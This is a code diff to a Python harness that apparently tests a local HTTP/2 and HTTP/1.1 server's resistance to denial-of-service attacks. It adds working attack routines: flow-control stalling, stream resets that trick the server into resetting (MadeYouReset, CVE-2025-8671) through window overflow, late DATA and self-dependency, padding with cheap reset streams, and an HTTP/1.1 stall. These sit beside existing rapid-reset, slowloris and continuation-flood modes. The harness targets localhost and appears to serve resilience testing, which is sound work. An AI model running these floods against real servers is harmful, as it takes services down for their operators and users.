@@ -46,19 +46,23 @@ class Conn:
         self.closed = False
         self.headers = 0
         self.resets = 0
+        self.reset_log = []
+        self.data = 0
+        self.service = args.service
+        self.path = args.path
         self.enc = hpack.Encoder()
         self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
         self.t0 = time.monotonic()
         self.closed_after = None
 
-    def request_block(self, extra=()):
+    def request_block(self, extra=(), service=None, path=None):
         return self.enc.encode(
             [
                 (":method", "GET"),
                 (":scheme", "https"),
-                (":path", "/x"),
+                (":path", path or self.path),
                 (":authority", "localhost"),
-                ("fed-service", "orders"),
+                ("fed-service", service or self.service),
                 *extra,
             ]
         )
@@ -69,6 +73,7 @@ class Conn:
             if len(self.buf) < 9 + n:
                 return
             kind, flags = self.buf[3], self.buf[4]
+            self._sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
             payload = self.buf[9 : 9 + n]
             self.buf = self.buf[9 + n :]
             if kind == 0x7 and self.goaway is None:
@@ -81,6 +86,11 @@ class Conn:
                 self.headers += 1
             elif kind == 0x3:
                 self.resets += 1
+                self.reset_log.append(
+                    [self._sid, int.from_bytes(payload[:4], "big"), round(time.monotonic() - self.t0, 3)]
+                )
+            elif kind == 0x0:
+                self.data += n
             elif kind == 0x4 and not flags & 0x1:
                 # acknowledge the server's settings, as a client must
                 self.send(SettingsFrame(0, flags=["ACK"]).serialize(), drain=False)
@@ -139,6 +149,8 @@ class Conn:
             "closed_after": self.closed_after,
             "responses": self.headers,
             "server_resets": self.resets,
+            "reset_log": self.reset_log,
+            "data": self.data,
         }
 
 
@@ -158,6 +170,58 @@ def rapid_reset(c, n, paced):
         elif not c.send(f.serialize() + r.serialize(), drain=False):
             break
         sent += 2
+    return sent
+
+
+def stall(c, n, seconds):
+    """Asks for n answers and reads none of them: no WINDOW_UPDATE is ever sent, so
+    every stream (and the connection) stays at the client's initial window."""
+    for i in range(n):
+        c.send(
+            HeadersFrame(2 * i + 1, c.request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize(),
+            drain=False,
+        )
+    t = time.monotonic() + seconds
+    while not c.closed and time.monotonic() < t:
+        c.drain(0.05)
+    return n
+
+
+def started_resets(c, n, pad, how):
+    """Streams that reach the service and are then reset: by the client's RST_STREAM,
+    or by frames that make the server reset them (MadeYouReset, CVE-2025-8671): a
+    WINDOW_UPDATE overflowing the stream's window, DATA on a stream the client already
+    ended, a stream made to depend on itself. Each is padded with `pad` cheap streams
+    (an unknown service: answered 404 at once) that are reset too."""
+    sent = 0
+    sid = 1
+    for i in range(n):
+        for _ in range(pad):
+            cheap = HeadersFrame(
+                sid, c.request_block(service="nope"), flags=["END_HEADERS", "END_STREAM"]
+            ).serialize() + RstStreamFrame(sid, error_code=8).serialize()
+            if not c.send(cheap, drain=False):
+                return sent
+            sid += 2
+        end = ["END_HEADERS", "END_STREAM"] if how in ("rst", "data_after_end", "window_overflow", "self_priority") else ["END_HEADERS"]
+        if not c.send(HeadersFrame(sid, c.request_block(), flags=end).serialize()):
+            return sent
+        # the service sees the call before the reset
+        time.sleep(0.02)
+        if how == "rst":
+            f = RstStreamFrame(sid, error_code=8)
+        elif how == "window_overflow":
+            f = WindowUpdateFrame(sid, window_increment=0x7FFFFFFF)
+        elif how == "data_after_end":
+            f = DataFrame(sid, b"late")
+        elif how == "self_priority":
+            f = PriorityFrame(sid, depends_on=sid, stream_weight=16)
+        else:
+            sys.exit("unknown reset " + how)
+        if not c.send(f.serialize()):
+            return sent
+        sent += 1
+        sid += 2
     return sent
 
 
@@ -239,6 +303,37 @@ def slowloris(args):
     return {"attack": "slowloris", "opened": opened, "cut_by_server": cut}
 
 
+def h1_stall(args):
+    """HTTP/1.1: asks for an answer, reads nothing for --seconds, then reads what is
+    there until the server closes or --wait passes."""
+    ctx = ssl.create_default_context(cafile=args.ca)
+    ctx.load_cert_chain(args.cert, args.key)
+    ctx.set_alpn_protocols(["http/1.1"])
+    raw = socket.create_connection(("127.0.0.1", args.port), timeout=5)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
+    s = ctx.wrap_socket(raw, server_hostname="localhost")
+    s.sendall(
+        f"GET {args.path} HTTP/1.1\r\nhost: localhost\r\nfed-service: {args.service}\r\n\r\n".encode()
+    )
+    time.sleep(args.seconds)
+    got, closed = 0, False
+    t = time.monotonic() + args.wait
+    s.settimeout(1)
+    while time.monotonic() < t:
+        try:
+            chunk = s.recv(65536)
+        except socket.timeout:
+            continue
+        except (ConnectionError, ssl.SSLError, OSError):
+            closed = True
+            break
+        if not chunk:
+            closed = True
+            break
+        got += len(chunk)
+    return {"attack": "h1_stall", "bytes": got, "closed": closed}
+
+
 def main():
     p = argparse.ArgumentParser()
     p.add_argument("attack")
@@ -249,11 +344,17 @@ def main():
     p.add_argument("--count", type=int, default=1000)
     p.add_argument("--seconds", type=float, default=10)
     p.add_argument("--wait", type=float, default=5)
+    p.add_argument("--service", default="orders")
+    p.add_argument("--path", default="/x")
+    p.add_argument("--pad", type=int, default=0)
     # HTTP/2 by its preface alone, with no ALPN in the handshake
     p.add_argument("--no-alpn", action="store_true")
     args = p.parse_args()
     if args.attack == "slowloris":
         print(json.dumps(slowloris(args)))
+        return
+    if args.attack == "h1_stall":
+        print(json.dumps(h1_stall(args)))
         return
     c = Conn(args)
     c.drain(0.1)
@@ -262,6 +363,12 @@ def main():
         sent = rapid_reset(c, n, paced=True)
     elif a == "rapid_reset_burst":
         sent = rapid_reset(c, n, paced=False)
+    elif a == "stall":
+        sent = stall(c, n, args.seconds)
+        print(json.dumps(c.result(a, sent)))
+        return
+    elif a.startswith("started_"):
+        sent = started_resets(c, n, args.pad, a[len("started_"):])
     elif a == "continuation_flood":
         sent = continuation_flood(c, n)
     elif a == "oversized_headers":
